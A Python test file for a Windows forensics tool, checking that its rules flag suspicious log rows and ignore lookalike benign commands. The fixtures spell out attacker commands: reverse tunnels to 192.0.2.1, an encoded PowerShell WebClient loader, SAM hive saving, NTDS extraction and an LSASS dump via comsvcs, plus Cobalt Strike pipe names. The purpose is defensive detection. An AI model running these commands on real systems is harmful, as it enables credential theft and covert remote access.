"""Findings of single rows: what is planted is told once at its level, what looks like it is not."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from forensics.model import Event, Finding, Value, event_id
from forensics.rules.filesystem import rule_for
from forensics.rules.watch import is_watched
from forensics.sessions import leads
from forensics.sessions.rows import Rows
from tests.artifacts.event_logs import facts_of, written
from tests.sessions.factory import Scene

SYSMON = "Microsoft-Windows-Sysmon/Operational"
LOADER = base64.b64encode(
    b"I\0E\0X\0 \0(\0N\0e\0w\0-\0O\0b\0j\0e\0c\0t\0 \0N\0e\0t\0.\0W\0e\0b\0C\0l\0i\0e\0n\0t\0)\0"
).decode()
SERVER = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"


def told(scene: Scene) -> list[Finding]:
    return [item for item in scene.build().findings if item.rule != "machine.other"]


COMMANDS = {
    "svchost.exe -L=:8080 -F=relay+tls://192.0.2.1:443": ("tool.gost", "medium"),
    "C:\\Users\\Public\\frpc.exe -c C:\\Users\\Public\\frpc.ini": ("tool.frp", "medium"),
    "C:\\ProgramData\\upd.exe client http://192.0.2.1:8080 R:socks": ("tool.chisel", "medium"),
    "C:\\ProgramData\\p.exe -N -R 4444:127.0.0.1:3389 u@192.0.2.1": ("tool.plink", "medium"),
    "C:\\x\\ngrok.exe tcp 3389": ("tool.ngrok", "medium"),
    "C:\\x\\cloudflared.exe tunnel --url tcp://localhost:3389": ("tool.cloudflared", "medium"),
    "netsh interface portproxy add v4tov4 listenport=80 connectaddress=192.0.2.1": ("tool.portproxy", "medium"),
    f"powershell.exe -nop -w hidden -enc {LOADER}": ("powershell.encoded_loader", "high"),
    "reg save HKLM\\SAM C:\\Users\\Public\\s.tmp": ("credentials.hive_saved", "high"),
    'ntdsutil "ac i ntds" ifm "create full c:\\t" q q': ("credentials.ntds_command", "high"),
    "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit c:\\t": (
        "credentials.ntds_command", "high",
    ),
    "vssadmin create shadow /for=C:": ("credentials.shadow_made", "low"),
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t.dmp full": ("credentials.lsass_dump", "high"),
    "netsh advfirewall firewall add rule name=a dir=in action=allow protocol=TCP localport=47000": (
        "firewall.port_47000", "medium",
    ),
}  # fmt: skip


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_is_one_finding_and_is_kept_by_itself(command: str) -> None:
    scene = Scene()
    image = command.partition(".exe")[0] + ".exe" if ".exe" in command else "C:\\x\\a.exe"
    scene.process(0, image, command)
    scene.process(60, image, command)
    (found,) = told(scene)
    assert (found.rule, found.level) == COMMANDS[command]
    assert len(found.events) == 2
    assert is_watched(command), "the row would only be context"
    assert "unknown" not in found.why


HARMLESS = [
    "C:\\Program Files\\Vendor\\updater.exe client start",
    "curl.exe -L https://example.org/a.zip -o a.zip",
    "git.exe log -L 1,5:a.py",
    "C:\\Windows\\System32\\OpenSSH\\ssh.exe user@192.0.2.1",
    "ssh-keygen.exe -R host",
    "notepad.exe C:\\docs\\ngrok.txt",
    "vssadmin list shadows",
    "reg query HKLM\\SAM",
    "reg save HKLM\\SOFTWARE\\Vendor a.hiv",
    'ntdsutil "metadata cleanup" quit',
    "procdump.exe -ma w3wp.exe",
    "rundll32.exe shell32.dll,Control_RunDLL",
    "netsh advfirewall firewall add rule name=a dir=in action=allow localport=443",
    "netsh interface portproxy show all",
    "powershell.exe -EncodedCommand " + base64.b64encode("Get-Process | Sort-Object CPU".encode("utf-16-le")).decode(),
    "C:\\Users\\d\\code.exe tunnel --accept-server-license-terms",
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe /t:library",
]


@pytest.mark.parametrize("command", HARMLESS)
def test_harmless_commands_are_none(command: str) -> None:
    scene = Scene()
    image = command.partition(".exe")[0] + ".exe" if ".exe" in command else "C:\\x\\a.exe"
    scene.process(0, image, command)
    assert [
        item for item in told(scene) if item.rule.startswith(("tool.", "credentials.", "powershell.", "fire"))
    ] == []


FILES = {
    "C:\\Users\\Public\\ntds.dit": ("credentials.ntds_copy", "high"),
    "C:\\ProgramData\\sam.save": ("credentials.hive_copy", "high"),
    "C:\\Users\\a\\AppData\\Local\\Temp\\lsass.DMP": ("credentials.lsass_dump", "high"),
    "C:\\Users\\a\\AppData\\Local\\Temp\\31558.txt": ("credentials.mirrorstealer", "high"),
    "C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx": ("webshell.new_script", "low"),
    "C:\\Users\\Public\\frpc.exe": ("tool.frp", "medium"),
    "C:\\ProgramData\\npc.exe": ("tool.other_tunnel", "medium"),
}


@pytest.mark.parametrize("path", FILES)
def test_a_file_of_the_journal_is_told_and_found(path: str) -> None:
    scene = Scene()
    scene.journal("created", 0, path, is_folder=False)
    (found,) = told(scene)
    assert (found.rule, found.level) == FILES[path]
    folder, _, name = path.removeprefix("C:").rpartition("\\")
    rule = rule_for(folder, name)
    assert rule is not None
    assert not rule.context


@pytest.mark.parametrize(
    "path",
    [
        "C:\\Windows\\NTDS\\ntds.dit", "C:\\Windows\\System32\\ntds.dit", "C:\\Windows\\System32\\config\\SAM",
        "C:\\Windows\\System32\\config\\RegBack\\SECURITY", "C:\\Users\\a\\AppData\\Local\\CrashDumps\\lsass.exe.1.dmp",
        "C:\\Users\\a\\source\\site\\page.aspx", "C:\\inetpub\\wwwroot\\iisstart.htm", "C:\\Users\\a\\sam.txt.lnk",
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\wwwroot\\a.aspx",
        "C:\\inetpub\\wwwroot\\.well-known\\security.txt", "C:\\ProgramData\\Vendor\\security.log",
        "C:\\Users\\sam\\Documents\\sam.zip", "C:\\inetpub\\ca\\root.cer",
        "C:\\Windows\\WinSxS\\amd64_x\\ntds.dit", "C:\\Program Files\\Npcap\\npcap.exe",
    ],
)  # fmt: skip
def test_files_in_their_place_are_none(path: str) -> None:
    scene = Scene()
    scene.journal("created", 0, path, is_folder=False)
    assert told(scene) == []


def test_a_deployment_is_one_finding_a_folder() -> None:
    scene = Scene()
    for number in range(40):
        scene.journal("created", number, f"C:\\inetpub\\wwwroot\\app\\page{number}.aspx", is_folder=False)
    (found,) = told(scene)
    assert (found.level, len(found.events)) == ("low", 40)


def _log(channel: str, number: int, **data: str) -> list[Event]:
    """The events of one written log record; it has to be kept by itself."""
    facts = written(channel, number, data=data)
    assert facts
    assert not any(fact.context for fact in facts), "the row would only be context"
    return [
        Event(event_id(fact.kind, time, name, fact.source, fact.fields), time, name, fact.kind, "", "", "", fact.source,
              fact.fields)
        for fact in facts for name, time in fact.times.items()
    ]  # fmt: skip


def _found(events: list[Event]) -> list[tuple[str, str]]:
    return [(item.rule, item.level) for item in leads.findings(Rows(events), "h")]


def test_a_script_that_the_web_server_wrote() -> None:
    written_by = _log(SYSMON, 11, Image=SERVER, TargetFilename="C:\\inetpub\\wwwroot\\up\\a.aspx", ProcessId="5")
    assert _found(written_by) == [("webshell.written_by_server", "high")]
    copied = _log(SYSMON, 11, Image="C:\\x\\msdeploy.exe", TargetFilename="C:\\inetpub\\wwwroot\\a.aspx", ProcessId="5")
    assert _found(copied) == [("webshell.new_script", "low")]
    assert "msdeploy.exe wrote" in leads.findings(Rows(copied), "h")[0].why


def test_a_command_of_the_web_server() -> None:
    events = _log(
        SYSMON, 1, Image="C:\\Windows\\System32\\cmd.exe", CommandLine="cmd /c whoami", ParentImage=SERVER,
        ProcessId="7", ParentProcessId="5",
    )  # fmt: skip
    assert _found(events) == [("webshell.command", "high")]


@pytest.mark.parametrize(
    "name", ["\\MSSE-1337-server", "\\msagent_a1", "\\postex_0f3c", "\\status_7b", "\\postex_ssh_1a"]
)
def test_default_pipes(name: str) -> None:
    assert _found(_log(SYSMON, 17, Image="C:\\x\\a.exe", PipeName=name, ProcessId="5")) == [
        ("cobaltstrike.pipe", "high")
    ]


def test_other_pipes_are_none() -> None:
    for name in ("\\status_of_the_spooler", "\\msagent_service", "\\MSSE-server", "\\lsass"):
        (fact,) = written(SYSMON, 17, data={"Image": "C:\\x\\a.exe", "PipeName": name, "ProcessId": "5"})
        event = Event("1", next(iter(fact.times.values())), "", fact.kind, "", "", "", fact.source, fact.fields)
        assert _found([event]) == []


def test_services_of_remote_execution() -> None:
    jump: dict[str, Value] = {"service_name": "3f8a2b1", "command_line": "\\\\127.0.0.1\\ADMIN$\\3f8a2b1.exe"}
    hidden: dict[str, Value] = {
        "service_name": "updatesvc",
        "command_line": f"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc {LOADER}",
    }  # fmt: skip
    plain: dict[str, Value] = {
        "service_name": "1394ohci",
        "command_line": "\\SystemRoot\\System32\\drivers\\1394ohci.sys",
    }
    scene = Scene()
    for seconds, fields in enumerate((jump, hidden, plain)):
        scene.add("service.installed", seconds, **fields)
    assert [(item.rule, item.level) for item in told(scene)] == [
        ("cobaltstrike.service", "high"), ("powershell.encoded_loader", "high"), ("cobaltstrike.service", "high"),
    ]  # fmt: skip
    assert "Net.WebClient" in next(item.why for item in told(scene) if item.rule == "powershell.encoded_loader")


def test_a_notification_package_that_windows_does_not_bring() -> None:
    key = "HKLM\\System\\CurrentControlSet\\Control\\Lsa"
    for data, count in (("scecli msupdate", 1), ("rassfm scecli", 0)):
        scene = Scene()
        scene.add("registry.value_set", 0, key_path=key, value_name="Notification Packages", value_data=data)
        assert [item.rule for item in told(scene)] == ["credentials.notification_package"] * count
    scene = Scene()
    for name in ("scecli", "mrsastealer"):
        scene.file(
            "autorun.configured", "C:/Windows/System32/config/SYSTEM", {"Content Modification Time": 0}, f"k\\{name}",
            mechanism="lsa", location=f"{key}\\Notification Packages", key_path="ControlSet001\\Control\\Lsa",
            value_name="Notification Packages", entry_name=name, command_line=name,
        )  # fmt: skip
    (found,) = told(scene)
    assert found.rule == "credentials.notification_package"
    assert "mrsastealer" in found.why
    events = _log(SYSMON, 13, TargetObject=f"{key}\\Notification Packages", Details="scecli x", Image="C:\\x\\a.exe")
    assert _found(events) == [("credentials.notification_package", "high")]
    events = _log(SYSMON, 13, TargetObject=f"{key}\\Notification Packages", Details="Binary Data", Image="C:\\a.exe")
    assert _found(events) == [("credentials.notification_package", "low")]


def test_the_port_in_the_firewall() -> None:
    for ports, direction, action, count in (
        ("47000", "in", "allow", 1), ("47000", "out", "allow", 0), ("47000", "in", "block", 0),
        ("470001", "in", "allow", 0),
    ):  # fmt: skip
        scene = Scene()
        scene.add("firewall.rule_added", 0, rule_name="Cortana", local_ports=ports, direction=direction, action=action)
        scene.file(
            "firewall.rule", "C:/Windows/System32/config/SYSTEM", {"Content Modification Time": 5}, "k\\v",
            rule_name="Cortana", local_ports=ports, rule_direction=direction, rule_action=action,
        )  # fmt: skip
        assert [(item.rule, len(item.events)) for item in told(scene)] == [("firewall.port_47000", 2)] * count


def test_the_loaders_payload_and_project() -> None:
    scene = Scene()
    about: dict[str, Value] = {"location": "HKCU\\Software\\License", "blob_sha256": "ab" * 32}
    scene.file("registry.blob_suspected", "C:/Users/x/NTUSER.DAT", {}, "k", payload_proved=True, **about)
    scene.file("registry.blob_suspected", "C:/Users/y/NTUSER.DAT", {}, "k", **{**about, "blob_sha256": "cd" * 32})
    scene.file("msbuild.inline_task", "C:/ProgramData/a.xml", {}, "UsingTask 1", code_signs=("VirtualAlloc",),
               file_path="C:\\ProgramData\\a.xml", code_sha256="ef" * 32)  # fmt: skip
    assert sorted((item.rule, item.level) for item in told(scene)) == [
        ("group.msbuild_project", "medium"), ("group.registry_payload", "critical"),
        ("group.registry_payload", "medium"),
    ]  # fmt: skip


PUBLIC = {
    "Command and Control/DE_sysmon-3-rdp-tun.evtx": {"tool.plink", "rdp.tunnelled"},
    "Credential Access/discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx": {"webshell.command"},
    "Lateral Movement/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx": {"webshell.command"},
}


@pytest.mark.parametrize("name", PUBLIC)
def test_public_logs_of_attacks(samples: Path, name: str) -> None:
    assert _of_log(samples / "evtx/attack-samples" / name) == PUBLIC[name]


def test_a_public_servers_own_logs_are_quiet(samples: Path) -> None:
    for path in sorted((samples / "evtx/host-server2016").glob("*.evtx")):
        assert _of_log(path) == set(), path


def _of_log(path: Path) -> set[str]:
    events = [
        Event(event_id(fact.kind, time, name, fact.source, fact.fields), time, name, fact.kind, "", "", "", fact.source,
              fact.fields)
        for fact in facts_of(path.read_bytes(), tolerant=True) if not fact.context for name, time in fact.times.items()
    ]  # fmt: skip
    return {item.rule for item in leads.findings(Rows(events), "h")}
